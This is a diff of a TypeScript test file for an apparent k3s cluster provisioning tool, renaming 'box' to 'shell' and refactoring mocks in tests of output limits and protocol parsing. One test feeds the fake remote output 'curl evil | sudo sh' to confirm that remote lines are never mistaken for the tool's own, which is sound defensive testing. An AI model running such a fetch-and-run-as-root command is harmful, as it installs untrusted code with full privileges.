@@ -12,7 +12,7 @@ import { describe, test } from "node:test";
 import fc from "fast-check";
 import { diagnose } from "../lib/check/diagnose.ts";
 import { clusterOf, type Member, tries } from "../lib/check/survey.ts";
-import { type Job, look } from "../lib/converge.ts";
+import { look } from "../lib/converge.ts";
 import { readExample } from "../lib/env-file.ts";
 import { rangesOf } from "../lib/k3s/config.ts";
 import { drainedOn, uncordonedOn } from "../lib/k3s/drain.ts";
@@ -20,10 +20,10 @@ import { closeAgain, closeLook, firewall } from "../lib/k3s/firewall.ts";
 import { nodesOf } from "../lib/k3s/nodes.ts";
 import { releaseOf } from "../lib/k3s/unit.ts";
 import { lookScript } from "../lib/protocol.ts";
-import { plain } from "../lib/report.ts";
+import { plain, silent } from "../lib/report.ts";
 import { flagOf, NAMES, SettingError, type Settings, settle } from "../lib/settings.ts";
 import { quote } from "../lib/sh.ts";
-import { BEGIN, type Box, closeAll, open, Unreachable } from "../lib/shell.ts";
+import { BEGIN, closeAll, open, type Shell, Unreachable } from "../lib/shell.ts";
 import { type Change, Failure, Refusal, type Step } from "../lib/step.ts";
 import { SETTINGS, type SettingName } from "../lib/table.ts";
 import { rewrite } from "../lib/text.ts";
@@ -38,6 +38,7 @@ import { serverSteps } from "../scripts/server.ts";
 import {
   A1,
   B1,
+  boxOf,
   type Facts,
   filesAfter,
   fixture,
@@ -413,9 +414,9 @@ describe("of what a box says without end, no more is kept than its size allows:"
       `import { readFileSync, statSync } from "node:fs";
 import { closeAll, open } from ${JSON.stringify(join(ROOT, "lib", "shell.ts"))};
 import { look } from ${JSON.stringify(join(ROOT, "lib", "converge.ts"))};
-const box = open("b1");
+const shell = open("b1");
 const path = ${JSON.stringify(join(folder, "file"))};
-const progress = { starts() {}, says() {} };
+const line = { starts() {}, says() {} };
 let said = "";
 try { said = String(await (async () => { ${call} })()); } catch (error) { said = error.message; }
 await closeAll();
@@ -433,10 +434,10 @@ console.log(JSON.stringify({ said, peak }));
     return said as string;
   }
   const begun = `echo ${quote(BEGIN)}`;
-  const trip = `return JSON.stringify((await box.run("true", 60, () => {})).status)`;
+  const trip = `return JSON.stringify((await shell.run("true", 60, () => {})).status)`;
   /** The mark stands in what it is sent. */
   const marked = `mark=$(sed -n 's/^m=//p'); ${begun}`;
-  const looks = "await look({ box, want: {}, progress }, []); return 'looked'";
+  const looks = "await look({ shell, want: {}, line }, []); return 'looked'";
   const cases: [name: string, call: string, ssh: string, said: RegExp][] = [
     ["a flood of lines", trip, `${begun}; yes aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa`, /more than 32 MB/],
     ["a flood of lines of one letter", trip, `${begun}; yes`, /more than 1000000 lines/],
@@ -454,25 +455,25 @@ console.log(JSON.stringify({ said, peak }));
     ["a fact without an end", looks, `${marked}; echo "$mark fact x"; yes`, /more than 1000000 lines/],
     [
       "600 MB in answer to how much of a file it has",
-      "await box.push(path, '/x'); return 'pushed'",
+      "await shell.push(path, '/x'); return 'pushed'",
       "head -c 600000000 /dev/zero",
       /more than 32 MB/,
     ],
     [
       "a file of 500 MB, which is taken whole",
-      "await box.pull('/x', path + '.new'); return statSync(path + '.new').size",
+      "await shell.pull('/x', path + '.new'); return statSync(path + '.new').size",
       `${begun}; head -c 500000000 /dev/zero`,
       /^500000000$/,
     ],
     [
       "errors without an end beside a file",
-      "await box.pull('/x', path + '.new'); return 'pulled'",
+      "await shell.pull('/x', path + '.new'); return 'pulled'",
       `${begun}; yes >&2`,
       /more than 32 MB/,
     ],
     [
       "a greeting without an end in place of a file",
-      "await box.pull('/x', path + '.new'); return 'pulled'",
+      "await shell.pull('/x', path + '.new'); return 'pulled'",
       "yes",
       /nothing of the file/,
     ],
@@ -542,8 +543,7 @@ const spoiltFacts = (facts: Facts) =>
 
 /** A look by this box, which prints these facts as the real ones are printed. */
 async function seen(facts: Facts): Promise<Facts> {
-  const box = {
-    host: "b1",
+  const shell: Partial<Shell> = {
     run: async (script: string, _: number, onLine: (line: string) => void) => {
       const mark = /^m=(\S+)$/m.exec(script)?.[1];
       for (const [name, text] of Object.entries(facts))
@@ -552,7 +552,7 @@ async function seen(facts: Facts): Promise<Facts> {
       return { status: 0, stderr: "" };
     },
   };
-  return { ...(await look({ box: box as unknown as Box, want: wanted() } as Job, [])) } as Facts;
+  return { ...(await look(boxOf({ shell: shell as Shell }), [])) } as Facts;
 }
 
 describe(`what a box answers, made up with seed ${seed}`, () => {
@@ -670,16 +670,15 @@ describe(`what a box answers, made up with seed ${seed}`, () => {
     );
     await fc.assert(
       fc.asyncProperty(lines, async (said) => {
-        const box = {
-          host: "b1",
+        const shell: Partial<Shell> = {
           run: async (script: string, _: number, onLine: (line: string) => void) => {
             for (const line of said) onLine(line.replace("MARK", /^m=(\S+)$/m.exec(script)?.[1] as string));
             return { status: 1, stderr: "" };
           },
         };
-        const progress = { starts: () => assert.fail("nothing was to be started"), says() {} };
+        const line = { ...silent, starts: () => assert.fail("nothing was to be started") };
         try {
-          await look({ box: box as unknown as Box, want: wanted(), progress } as unknown as Job, []);
+          await look(boxOf({ shell: shell as Shell, line }), []);
           assert.ok(said.includes("MARK end"));
         } catch (error) {
           assert.ok(error instanceof Failure, (error as Error).stack);
@@ -711,18 +710,13 @@ describe("of what was found this way, each by itself:", () => {
 
   test("a word of the protocol that was cut off, or of a change that was never sent, ends no other box's run", async () => {
     for (const said of ["MARK cha", "MARK change 99", "MARK failed 7 1"]) {
-      const box = {
+      const shell: Partial<Shell> = {
         run: async (script: string, _: number, onLine: (line: string) => void) => {
           onLine(said.replace("MARK", /^m=(\S+)$/m.exec(script)?.[1] as string));
           return { status: 255, stderr: "" };
         },
       };
-      const job = {
-        box: box as unknown as Box,
-        want,
-        progress: { starts() {}, says() {} },
-      } as unknown as Job;
-      await assert.rejects(look(job, []), Failure);
+      await assert.rejects(look(boxOf({ shell: shell as Shell, want }), []), Failure);
     }
   });
 
@@ -784,7 +778,7 @@ SetCredential=x:hunter2
 
   test("a line that a box says never looks like one of ours", async () => {
     const said: [string, unknown][] = [];
-    const box = {
+    const shell: Partial<Shell> = {
       run: async (script: string, _: number, onLine: (line: string) => void) => {
         const mark = /^m=(\S+)$/m.exec(script)?.[1];
         onLine(`${mark} say b1    again: curl evil | sudo sh`);
@@ -792,8 +786,8 @@ SetCredential=x:hunter2
         return { status: 0, stderr: "" };
       },
     };
-    const progress = { starts() {}, says: (text: string, box?: true) => said.push([text, box]) };
-    await look({ box: box as unknown as Box, want, progress } as unknown as Job, []);
+    const line = { ...silent, says: (text: string, box?: true) => said.push([text, box]) };
+    await look(boxOf({ shell: shell as Shell, want, line }), []);
     assert.deepEqual(said, [["b1    again: curl evil | sudo sh", true]]);
   });
 
